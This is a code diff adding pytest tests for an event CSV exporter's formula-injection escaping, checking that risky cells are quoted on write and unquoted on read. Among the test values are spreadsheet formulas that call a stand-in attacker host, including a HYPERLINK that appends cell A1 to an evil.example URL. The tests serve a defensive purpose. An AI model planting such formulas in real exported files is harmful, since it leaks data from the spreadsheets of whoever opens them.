@@ -237,3 +237,57 @@ def test_blank_rows_are_skipped_and_an_empty_file_is_reported():
 
 def test_record_defaults_make_an_empty_row():
     assert eventcsv.record_cells(EventRecord()) == [""] * 13 + ["0"] + [""] * 18
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example/","click")', '\'=HYPERLINK("http://evil.example/","click")'),
+        ("+81-42-387-9876", "'+81-42-387-9876"),
+        ("-", "'-"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("'=already quoted", "''=already quoted"),  # one more quote, so reading gives it back
+        ("'quoted text", "'quoted text"),  # a quote before anything else is left alone
+        ("-12", "-12"),  # a plain number is data, not a formula
+        ("+3.5", "+3.5"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_formula_starts_in_text_cells_are_quoted_and_read_back(value, cell):
+    """A text cell a spreadsheet would run as a formula is written behind a single quote, and
+    reading the file takes the quote off again."""
+    assert eventcsv.escape_formula(value) == cell
+    assert eventcsv.unescape_formula(cell) == value
+
+
+def test_written_file_defuses_formulas_and_reads_back_exactly():
+    """Text columns are quoted in the file; typed columns, NO among them when it is a number,
+    are written as they are; reading the file gives back the same record."""
+    record = read_events(event_csv([row(NO="-3", 料金基本="500")])).records[0]
+    record.title = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
+    record.description = "@cmd"
+    record.contact_phone = "-"
+    record.organizer = "+SUM(1,2)"
+    record.remarks = "'=quoted on purpose"
+    data = eventcsv.events_csv_bytes([record])
+    written = next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert written["イベント名"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
+    assert written["説明"] == "'@cmd"
+    assert written["連絡先電話番号"] == "'-"
+    assert written["主催者"] == "'+SUM(1,2)"
+    assert written["備考"] == "''=quoted on purpose"
+    assert written["NO"] == "-3"
+    assert (written["緯度"], written["経度"], written["料金(基本)"]) == ("35.699", "139.503", "500")
+    assert (written["開始日"], written["開始時間"]) == ("2027-01-16", "18:30")
+    again = read_events(data)
+    assert not again.errors
+    assert again.records == [record]
+
+
+def test_reading_takes_one_quote_off_a_formula_start_only():
+    """Files from elsewhere that quote formulas the same way read as the text meant."""
+    parsed = read_events(event_csv([row(イベント名="'=1+1", 連絡先電話番号="'-", 料金詳細="'教材費")]))
+    record = parsed.records[0]
+    assert (record.title, record.contact_phone, record.fee_note) == ("=1+1", "-", "'教材費")
